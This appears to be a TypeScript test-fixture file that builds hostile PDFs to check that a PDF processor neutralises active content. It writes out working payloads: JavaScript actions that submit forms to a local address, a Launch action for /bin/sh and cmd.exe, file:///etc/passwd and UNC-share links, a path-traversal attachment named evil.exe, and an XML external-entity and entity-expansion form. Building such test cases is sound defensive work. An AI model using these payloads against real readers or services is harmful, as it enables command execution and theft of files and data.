import { rawStream } from '../../contracts/raw-pdf.js'
import type { HostileCase } from './hostile-case.js'
import { hostilePage, packed } from './hostile-pdf.js'

/** Address that documents try to call. It must never be contacted and never be a link in the output. */
const CALLED_PORT = 9
const CALLED = `http://127.0.0.1:${CALLED_PORT}/called`

const ACTIONS: Readonly<Record<string, string>> = {
  JavaScript: `<</S/JavaScript/JS(app.launchURL\\('${CALLED}'\\); this.submitForm\\('${CALLED}'\\))>>`,
  Launch: '<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>',
  'a link to JavaScript': '<</S/URI/URI(javascript:alert\\(1\\))>>',
  'a link to a file': '<</S/URI/URI(file:///etc/passwd)>>',
  'a link to a share': '<</S/URI/URI(\\\\\\\\127.0.0.1\\\\share\\\\a)>>',
  'a link to data': '<</S/URI/URI(data:text/html,<script>alert\\(1\\)</script>)>>',
  'a link with a line within': '<</S/URI/URI(http://a.example/\\r\\nX-Own: 1)>>',
  'a link of 100,000 letters': `<</S/URI/URI(http://a.example/${'a'.repeat(100_000)})>>`,
  GoToR: '<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\a.pdf)/D[0/Fit]/NewWindow true>>',
  GoToE: '<</S/GoToE/F(a.pdf)/T<</R/C/N(a)>>/D[0/Fit]>>',
  SubmitForm: `<</S/SubmitForm/F(${CALLED})/Flags 0>>`,
  ImportData: '<</S/ImportData/F(/etc/passwd)>>',
  Rendition: `<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>`,
  Thread: '<</S/Thread/F(/etc/passwd)/D 0>>',
  'actions in a circle': '<</S/Named/N/NextPage/Next 9 0 R>>',
}

/** Documents with active content. */
export const active: readonly HostileCase[] = [
  ...Object.entries(ACTIONS).map(
    ([name, action]): HostileCase => ({
      name: `a document with the action ${name} everywhere`,
      make: () =>
        hostilePage('', [action, '<</Type/Annot/Subtype/Link/Rect[60 640 600 720]/A 9 0 R/AA<</E 9 0 R/D 9 0 R>>>>'], {
          entries: '/Annots[10 0 R]/AA<</O 9 0 R/C 9 0 R>>',
          catalogue:
            '/OpenAction 9 0 R/AA<</WC 9 0 R/WS 9 0 R>>/Names<</JavaScript<</Names[(a) 9 0 R]>>>>/URI<</Base(http://127.0.0.1:9/)>>',
        }),
      ends: ['completed'],
    }),
  ),
  {
    name: 'a document with an attached document, program and bomb',
    make: () =>
      hostilePage(
        '',
        [
          '<</Type/Filespec/F(../../../evil.exe)/UF(../../../evil.exe)/EF<</F 10 0 R>>/RF<</F[(a) 10 0 R]>>>>',
          rawStream('/Type/EmbeddedFile/Params<</Size 99999999999>>', 'MZ'),
          '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 9 0 R>>',
        ],
        { entries: '/Annots[11 0 R]', catalogue: '/Names<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>/AF[9 0 R]' },
      ),
    ends: ['completed'],
  },
  {
    name: 'contents, images and fonts in other files',
    make: () =>
      hostilePage(
        '/X Do BT /H 9 Tf 72 200 Td (abc) Tj ET',
        [
          `<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/F(/etc/passwd)/Length 0>>stream\n\nendstream`,
          '<</Type/Font/Subtype/TrueType/BaseFont/Own/FontDescriptor<</FontName/Own/FontFile2 11 0 R>>>>',
          `<</F<</FS/URL/F(${CALLED})>>/FFilter/FlateDecode/Length 0>>stream\n\nendstream`,
        ],
        { resources: '/XObject<</X 9 0 R>>', fonts: '/H 10 0 R', entries: '/Contents[4 0 R 11 0 R]' },
      ),
    ends: ['completed', 'nothing_read'],
  },
  {
    name: 'an XML form with an external entity and nested entities',
    make: () =>
      hostilePage(
        '',
        [
          packed(
            `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&c;<template><script>app.alert(1)</script></template></xdp:xdp>`,
          ),
        ],
        { catalogue: '/AcroForm<</Fields[]/XFA 9 0 R>>/Metadata 9 0 R/NeedsRendering true' },
      ),
    ends: ['completed'],
  },
  {
    name: 'movies, sounds and a 3D scene',
    make: () =>
      hostilePage(
        '',
        [
          '<</Type/Annot/Subtype/RichMedia/Rect[0 0 99 99]/RichMediaContent<</Assets<</Names[(a.swf) 12 0 R]>>/Configurations[<</Type/RichMediaConfiguration/Subtype/Flash>>]>>/RichMediaSettings<</Activation<</Condition/PV>>>>>>',
          '<</Type/Annot/Subtype/3D/Rect[0 0 99 99]/3DD 12 0 R/3DA<</A/PO>>>>',
          '<</Type/Annot/Subtype/Movie/Rect[0 0 99 99]/Movie<</F(\\\\\\\\127.0.0.1\\\\a.avi)>>/A true>>',
          rawStream('/Type/3D/Subtype/U3D/OnInstantiate 12 0 R', 'FWS'),
        ],
        { entries: '/Annots[9 0 R 10 0 R 11 0 R]' },
      ),
    ends: ['completed'],
  },
]
